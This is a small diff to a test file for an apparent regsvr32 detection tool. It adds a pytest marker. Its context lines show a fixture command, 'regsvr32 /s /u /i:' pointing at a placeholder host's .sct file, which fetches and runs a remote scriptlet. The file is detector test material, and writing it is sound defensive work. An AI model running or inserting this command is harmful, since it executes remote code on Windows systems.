@@ -4,6 +4,8 @@ import pytest
 from regsvr32_detector import fields
 from regsvr32_detector.fields import normalize
 
+pytestmark = pytest.mark.pure
+
 SYS32 = "C:\\Windows\\System32\\regsvr32.exe"
 CMD = "regsvr32 /s /u /i:http://h.example/a.sct scrobj.dll"
 
